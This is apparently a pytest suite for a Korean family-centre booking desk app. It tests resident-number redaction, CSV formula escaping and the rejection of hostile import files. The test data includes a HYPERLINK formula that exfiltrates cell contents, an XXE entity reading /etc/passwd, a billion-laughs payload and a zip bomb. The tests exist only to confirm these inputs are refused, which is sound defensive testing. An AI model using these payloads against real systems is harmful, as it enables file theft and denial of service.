"""Issue 12: ELG-4 in every free-text field, CSV cells that never run as formulas, and hostile
files and digits that end in a Korean message with nothing changed."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import logging
import re
import zipfile

import pytest
from sqlalchemy import func, select

from desk_app.cli import main
from desk_app.db.models import AuditEntry, Booking, Payment
from desk_app.domain.errors import BadInput
from desk_app.domain.rrn import looks_like_rrn
from desk_app.services.bookings import CancellationService, ClosureService, GroupBooking, GroupService
from desk_app.services.care import CareService
from desk_app.services.checkin import CheckinService, PaymentIn
from desk_app.services.closeout import CloseoutService, ReversalService
from desk_app.services.data import PersonIn
from desk_app.services.portal_import import PortalImportService
from desk_app.services.staff import StaffService
from tests.conftest import DAY, adult, book, kid
from tests.rrn_samples import BACK, FRONT, NOT_A_DATE, OTHER_DASH, RRN, SPACED  # noqa: E402
from tests.services.test_portal_import import HEADER, row, write_csv

SHAPES = [re.compile(re.escape(FRONT.encode()) + rb".?.?" + re.escape(BACK.encode())), re.compile(RRN[3][:6].encode())]


def counts(ctx):
    """Bookings, payments and journal entries (less the key a command registers as it opens)."""
    with ctx.store.uow() as uow:
        return (
            uow.session.scalar(select(func.count()).select_from(Booking)),
            uow.session.scalar(select(func.count()).select_from(Payment)),
            uow.session.scalar(select(func.count()).where(AuditEntry.action != "journal.key")),
        )


@pytest.mark.parametrize("number", RRN)
def test_every_free_text_field_refuses_a_resident_number(ctx, manager, clock, tmp_path, number):
    code = book(ctx, kid(care=True), adult())  # play care: its late pick-up note is a field too
    clock.set(dt.datetime.combine(DAY, dt.time(10, 5)))
    svc = CheckinService(ctx)
    req = dataclasses.replace(svc.request_for(code), residency_doc="resident_card")
    card = PaymentIn("card", approval_no="30012345")
    paid = svc.pay(req, card, "good", manager.id)
    card = PaymentIn("card", approval_no="40012345")  # another slip from the terminal
    clock.set(dt.datetime.combine(DAY, dt.time(10, 35)))  # walk-ins open (RSV-4)
    other = book(ctx, kid("2022-01-01", name="둘째"), adult(), name="박다음", phone="010-2222-3333")
    req2 = dataclasses.replace(svc.request_for(other), residency_doc="resident_card")
    before = counts(ctx)
    fields = {
        "a child's name": lambda: svc.pay(
            dataclasses.replace(
                req2, people=(PersonIn("child", f"아이 {number}", dt.date(2022, 1, 1)), PersonIn("guardian"))
            ),
            card,
            "k1",
            manager.id,
        ),
        "a guardian's name": lambda: svc.pay(
            dataclasses.replace(
                req2, people=(PersonIn("child", "둘째", dt.date(2022, 1, 1)), PersonIn("guardian", number))
            ),
            card,
            "k2",
            manager.id,
        ),
        "the transfer sender": lambda: svc.pay(req2, PaymentIn("transfer", sender=f"김 {number}"), "k3", manager.id),
        "a walk-in booker": lambda: svc.pay(
            dataclasses.replace(
                svc.walkin_request(1),
                residency_doc="resident_card",
                booker_name=number,
                booker_phone="010-7777-8888",
                people=(PersonIn("child", "셋째", dt.date(2021, 5, 5)), PersonIn("guardian")),
            ),
            card,
            "k4",
            manager.id,
        ),
        "a refusal reason": lambda: svc.refuse(req2, f"발열 {number}", manager.id),
        "a cancellation reason": lambda: CancellationService(ctx).cancel(other, "phone", f"사유 {number}", manager),
        "a closure reason": lambda: ClosureService(ctx).block(DAY + dt.timedelta(days=3), None, number, manager),
        "a reversal reason": lambda: ReversalService(ctx).reverse(paid.receipt_no, f"환불 {number}", manager),
        "a late pick-up note": lambda: CareService(ctx).flag_late_pickup(paid.visit_code, 10, number, manager),
        "a staff name": lambda: StaffService(ctx).create(number, "staff", "1357", by=manager),
        "a group's organisation": lambda: GroupService(ctx).book(
            GroupBooking(
                DAY + dt.timedelta(days=2),
                1,
                f"어린이집 {number}",
                "박선생",
                "02-123-4567",
                (dt.date(2021, 1, 1),) * 12,
                2,
            ),
            manager,
        ),
        "a group's contact": lambda: GroupService(ctx).book(
            GroupBooking(
                DAY + dt.timedelta(days=2), 1, "해님어린이집", number, "02-123-4567", (dt.date(2021, 1, 1),) * 12, 2
            ),
            manager,
        ),
    }
    for what, action in fields.items():
        with pytest.raises(BadInput, match="주민등록번호") as e:
            action()
        assert BACK not in e.value.message and RRN[3][7:] not in e.value.message, what
    assert counts(ctx) == before  # nothing was saved
    # the import: the row is named, nothing is saved
    path = write_csv(tmp_path / "rrn.csv", [row(child=f"김서준 {number}", day=f"{DAY:%Y-%m-%d}")])
    summary = PortalImportService(ctx).run(path)
    assert summary.rejected and "주민등록번호" in summary.rejected[0].reason and summary.rejected[0].line == 2
    assert counts(ctx) == before


def test_no_resident_number_reaches_the_disk(ctx, manager, clock, tmp_path, monkeypatch):
    """Typed into every field and refused; then the database, its WAL, the backups, the log,
    every PDF and every CSV are read for the shape."""
    from desk_app.logsetup import setup_logging
    from desk_app.printing.report import day_csv, day_pdf
    from desk_app.services.backup import backup_file
    from desk_app.services.documents import DocumentService

    monkeypatch.setenv("DESK_APP_HOME", str(tmp_path / "home"))
    log_path = setup_logging()
    try:
        code = book(ctx, kid(), adult())
        clock.set(dt.datetime.combine(DAY, dt.time(10, 5)))
        svc = CheckinService(ctx)
        req = dataclasses.replace(svc.request_for(code), residency_doc="resident_card")
        for number in RRN:
            with pytest.raises(BadInput):
                svc.pay(req, PaymentIn("transfer", sender=number), f"k-{number}", manager.id)
            with pytest.raises(BadInput):  # the phone field echoes what was typed: the log must not
                svc.pay(
                    dataclasses.replace(req, booking_code=None, booker_name="김", booker_phone=number),
                    PaymentIn("card", approval_no="30012345"),
                    f"w-{number}",
                    manager.id,
                )
            logging.getLogger("desk_app.test").warning("payment refused: %s", f"phone {number}")
        paid = svc.pay(req, PaymentIn("card", approval_no="30012345"), "ok", manager.id)
        docs = DocumentService(ctx, tmp_path / "printed")
        pdfs = [docs.render(paid.visit_code, d).path for d in ("slip", "receipt")]
        clock.set(dt.datetime.combine(DAY, dt.time(18, 0)))
        report = CloseoutService(ctx).report(DAY)
        (tmp_path / "day.pdf").write_bytes(day_pdf(report, ctx.profile.center))
        (tmp_path / "day.csv").write_bytes(day_csv(report, ctx.profile.center))
        db = ctx.store.sqlite_path
        backup_file(db, "test", tmp_path / "backups")
        for handler in logging.getLogger().handlers:
            handler.flush()
        files = [db, db.with_name(db.name + "-wal"), log_path, tmp_path / "day.pdf", tmp_path / "day.csv", *pdfs]
        files += list((tmp_path / "backups").glob("*"))
        for f in files:
            if not f.exists():
                continue
            data = f.read_bytes()
            for shape in SHAPES:
                assert not shape.search(data), f"{f.name} holds a resident registration number"
        assert "******-*******" in log_path.read_text(encoding="utf-8")  # masked, not dropped
    finally:
        root = logging.getLogger()
        for handler in list(root.handlers):
            if getattr(handler, "baseFilename", "") == str(log_path):
                root.removeHandler(handler)
                handler.close()


def test_the_shape_and_not_more():
    for number in [*RRN, SPACED, OTHER_DASH]:
        assert looks_like_rrn(number), number
    for fine in ["R2025061700001", "010-1234-5678", "30012345", "2025-06-11 10:30", "V250611-ABCDE", NOT_A_DATE]:
        assert not looks_like_rrn(fine), fine


# ------------------------------------------------------------------ CSV cells never run as formulas


def test_a_formula_in_a_reason_stays_text_in_the_day_csv(ctx, manager, clock):
    from desk_app.printing.report import csv_cell, day_csv

    code = book(ctx, kid(), adult())
    clock.set(dt.datetime.combine(DAY, dt.time(10, 5)))
    svc = CheckinService(ctx)
    paid = svc.pay(
        dataclasses.replace(svc.request_for(code), residency_doc="resident_card"),
        PaymentIn("card", approval_no="30012345"),
        "k",
        manager.id,
    )
    formula = '=HYPERLINK("http://x/?d="&A1,"환불")'
    ReversalService(ctx).reverse(paid.receipt_no, formula, manager)
    text = day_csv(CloseoutService(ctx).report(DAY), ctx.profile.center).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    for cell in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(cell).startswith("'")
    assert csv_cell("-3,000") == "-3000" and csv_cell(1200) == 1200  # numbers stay numbers


# ------------------------------------------------------------------ hostile files and digits


def _xlsx_with(tmp_path, name, sheet_xml: bytes, extra: dict[str, bytes] | None = None):
    """A one-sheet XLSX written by hand, so the test controls every byte."""
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        for part, data in (extra or {}).items():
            z.writestr(part, data)
    return path


SHEET = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'


def test_hostile_files_are_refused_with_a_message_and_change_nothing(ctx, manager, clock, tmp_path, capsys):
    clock.set(dt.datetime(2025, 6, 16, 18, 0))
    svc = PortalImportService(ctx)
    before = counts(ctx)
    xxe = _xlsx_with(
        tmp_path,
        "xxe.xlsx",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        + SHEET.split(b"?>", 1)[1].replace(b"<t>x</t>", b"<t>&e;</t>"),
    )
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
        )
        + b"]>"
    )
    billion = _xlsx_with(
        tmp_path, "laughs.xlsx", SHEET, {"xl/sharedStrings.xml": laughs + b"<sst><si><t>&lol9;</t></si></sst>"}
    )
    bomb = _xlsx_with(tmp_path, "bomb.xlsx", SHEET, {"xl/worksheets/sheet2.xml": b"\0" * (110 * 1024 * 1024)})
    cases = {
        "a folder": (tmp_path, "폴더"),
        "an external entity": (xxe, "DTD"),
        "a billion laughs": (billion, "DTD"),
        "a zip bomb": (bomb, "압축을 풀면 너무 큽니다"),
    }
    for what, (path, words) in cases.items():
        with pytest.raises(BadInput, match=words):
            svc.run(path)
        assert main(["import", str(path), "--db", str(ctx.store.sqlite_path)]) == 2, what
        err = capsys.readouterr().err
        assert "Traceback" not in err and words in err, what
    assert counts(ctx) == before


@pytest.mark.parametrize(
    ("cells", "words"),
    [
        ({"session": "٢"}, "회차 번호가 아닙니다"),
        ({"session": "２"}, "회차 번호가 아닙니다"),
        ({"session": "²"}, "회차 번호가 아닙니다"),
        ({"guardians": "١"}, "0~10의 숫자가 아닙니다"),
        ({"day": "0001-01-01"}, "1900~2100년"),
        ({"birth": "9999-12-31"}, "1900~2100년"),
    ],
)
def test_other_scripts_digits_and_impossible_years_are_named(ctx, clock, tmp_path, cells, words):
    clock.set(dt.datetime(2025, 6, 16, 18, 0))
    path = write_csv(tmp_path / "odd.csv", [row(**cells)])
    summary = PortalImportService(ctx).run(path)
    assert summary.rejected and words in summary.rejected[0].reason and not summary.committed
    assert counts(ctx)[0] == 0


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_quote_with_an_impossible_year_exits_2(tmp_path, capsys, day):
    request = {
        "visit_date": day,
        "session": 1,
        "kind": "individual",
        "people": [{"role": "child", "birth_date": "2021-03-03"}, {"role": "guardian"}],
    }
    path = tmp_path / "q.json"
    path.write_text(json.dumps(request))
    assert main(["quote", str(path)]) == 2
    err = capsys.readouterr().err
    assert "1900~2100년" in err and "Traceback" not in err


def test_card_approval_and_pin_take_ascii_digits_only(ctx, manager, clock):
    code = book(ctx, kid(), adult())
    clock.set(dt.datetime.combine(DAY, dt.time(10, 5)))
    svc = CheckinService(ctx)
    req = dataclasses.replace(svc.request_for(code), residency_doc="resident_card")
    with pytest.raises(BadInput, match="승인번호"):
        svc.pay(req, PaymentIn("card", approval_no="３００１２３４５"), "k", manager.id)
    with pytest.raises(BadInput, match="PIN"):
        StaffService(ctx).create("박직원", "staff", "١٢٣٤", by=manager)
    assert HEADER  # the shipped profile's headers are the ones written above


@pytest.mark.parametrize("number", RRN)
def test_the_managers_reasons_refuse_a_resident_number_too(ctx, manager, clock, number):
    """Lifting a no-show ban and clearing a late pick-up: the last free-text fields."""
    from desk_app.services.bookings import NoShowService

    code = book(ctx, kid(care=True), adult())
    late = book(ctx, kid("2021-05-05", name="늦음"), adult(), name="박노쇼", phone="010-4444-5555")
    clock.set(dt.datetime.combine(DAY, dt.time(10, 5)))
    svc = CheckinService(ctx)
    paid = svc.pay(
        dataclasses.replace(svc.request_for(code), residency_doc="resident_card"),
        PaymentIn("card", approval_no="30012345"),
        "k",
        manager.id,
    )
    CareService(ctx).flag_late_pickup(paid.visit_code, 15, "20분 늦음", manager)
    clock.set(dt.datetime.combine(DAY, dt.time(12, 30)))
    NoShowService(ctx).sweep()  # the second booking never came: a no-show and its ban
    penalty = NoShowService(ctx).penalties()[0]
    flag = CareService(ctx).open_flags()[0]
    before = counts(ctx)
    with pytest.raises(BadInput, match="주민등록번호"):
        NoShowService(ctx).lift(penalty.id, f"착오 {number}", manager)
    with pytest.raises(BadInput, match="주민등록번호"):
        CareService(ctx).clear(flag.id, f"확인함 {number}", manager)
    assert counts(ctx) == before and late
